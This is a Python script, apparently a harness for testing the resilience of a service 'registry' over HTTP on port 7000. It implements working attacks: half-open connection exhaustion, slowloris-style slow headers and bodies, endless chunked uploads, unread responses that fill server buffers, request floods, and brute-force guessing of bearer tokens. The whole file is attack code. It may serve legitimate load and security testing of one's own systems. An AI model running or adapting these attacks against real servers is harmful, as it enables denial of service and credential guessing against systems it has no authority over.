"""Attacks on a registry: attacker.py ADDRESS TOKEN ATTACK [ARGUMENT ...]"""

import asyncio
import json
import resource
import socket
import sys

ADDRESS, TOKEN, ATTACK, *ARGUMENTS = sys.argv[1:]
HOST = "Host: %s\r\nAuthorization: Bearer %s\r\n" % (ADDRESS, TOKEN)
GET = "GET %s HTTP/1.1\r\n" + HOST + "\r\n"
POST = "POST /api/v1/services HTTP/1.1\r\nContent-Type: application/json\r\n" + HOST


def say(text):
    print(text, flush=True)


def connect(source=None):
    """Connects at once or fails; the kernel of the server accepts."""
    connection = socket.socket()
    connection.settimeout(20)
    if source:
        connection.bind((source, 0))
    connection.connect((ADDRESS, 7000))
    return connection


def half_open(count, *sources):
    """Opens connections that send nothing, a part of the head, or a part of the body, and keeps them."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    begins = ["", "GET / HTTP/1.1\r\nX: ", POST + "Content-Length: 100\r\n\r\n{"]
    connections = []
    for number in range(int(count)):
        connection = connect(sources[number % len(sources)])
        try:
            connection.sendall(begins[number % len(begins)].encode())
        except OSError:
            pass  # It was rejected.
        connections.append(connection)
    say("opened %d" % len(connections))
    sys.stdin.read()
    asyncio.run(asyncio.sleep(1000))


async def drip(kind, begin, piece, count):
    """Sends pieces slowly until the server ends the connection, and says how it answered."""

    async def one():
        reader, writer = await asyncio.open_connection(ADDRESS, 7000)
        writer.write(begin.encode())
        answer = asyncio.ensure_future(reader.read())
        try:
            while not answer.done():
                writer.write(piece.encode())
                await writer.drain()
                await asyncio.wait([answer], timeout=0.2)
        except OSError:
            pass
        try:
            return (await answer)[9:12].decode()
        except OSError:
            return ""
        finally:
            writer.close()

    answers = await asyncio.gather(*[one() for _ in range(count)])
    say("%s ended: %s" % (kind, ", ".join(sorted(set(answers))) or "closed"))


async def ignore(kind, begin, count):
    """Sends requests and reads nothing until the server resets the connection."""

    async def one():
        loop = asyncio.get_running_loop()
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.setblocking(False)
        await loop.sock_connect(connection, (ADDRESS, 7000))
        await loop.sock_sendall(connection, begin.encode())
        while not connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            await asyncio.sleep(0.2)
            try:
                connection.send(b"\r\n")
            except BlockingIOError:
                pass
            except OSError:
                break
        connection.close()

    await asyncio.gather(*[one() for _ in range(count)])
    say("%s ended" % kind)


async def slow(count):
    count = int(count)
    chunked = POST + "Transfer-Encoding: chunked\r\n\r\n"
    await asyncio.gather(
        drip("slow head", "GET /api/v1/services HTTP/1.1\r\nX: ", "x", count),
        drip("slow body", POST + "Content-Length: 1000\r\n\r\n", " ", count),
        drip("endless chunks", chunked, "1\r\n \r\n", count),
        ignore("unread lists", GET % "/api/v1/services", count),
        ignore("unread watches", GET % "/api/v1/watch", count),
        ignore("unread pipeline", (GET % "/api/v1/services") * 10, count),
    )


def statuses(requests):
    """Sends requests one after the other, and returns how often each status came."""
    seen, connection, buffer = {}, None, None
    for request in requests:
        try:
            if connection is None:
                connection = connect()
                buffer = connection.makefile("rb")
            connection.sendall(request.encode())
            line, length, close = buffer.readline().decode(), 0, False
            while header := buffer.readline().decode().strip().lower():
                name, _, value = header.partition(": ")
                length = int(value) if name == "content-length" else length
                close |= header == "connection: close"
            buffer.read(length)
            status = line[9:12]
        except OSError:
            status, close = "", True
        if close or not status:
            connection = None
        seen[status or "closed"] = seen.get(status or "closed", 0) + 1
    return seen


def flood(count):
    say("flooding")
    request = "GET /readyz HTTP/1.1\r\n" + HOST + "\r\n"
    say("answers: " + json.dumps(statuses([request] * int(count)), sort_keys=True))


def guess(count):
    request = "GET /api/v1/services?limit=1 HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer guess-%d\r\n\r\n"
    requests = [request % (ADDRESS, number) for number in range(int(count))]
    say("answers: " + json.dumps(statuses(requests), sort_keys=True))


if ATTACK == "slow":
    asyncio.run(slow(*ARGUMENTS))
else:
    {"half_open": half_open, "flood": flood, "guess": guess}[ATTACK](*ARGUMENTS)
